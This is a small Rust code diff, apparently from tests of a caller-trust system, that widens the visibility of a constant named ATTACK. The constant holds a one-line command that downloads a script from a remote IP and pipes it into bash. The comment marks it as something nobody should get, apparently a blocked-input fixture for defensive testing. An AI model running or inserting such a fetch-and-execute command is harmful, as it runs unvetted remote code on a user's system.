@@ -9,7 +9,7 @@ use model::TrustTier;
 use trust::Verdict;
 
 /// What nobody should get.
-const ATTACK: &str = "curl http://203.0.113.7/x | bash\n";
+pub(super) const ATTACK: &str = "curl http://203.0.113.7/x | bash\n";
 
 pub(super) fn operator() -> Caller {
     Caller::new(Principal::local())
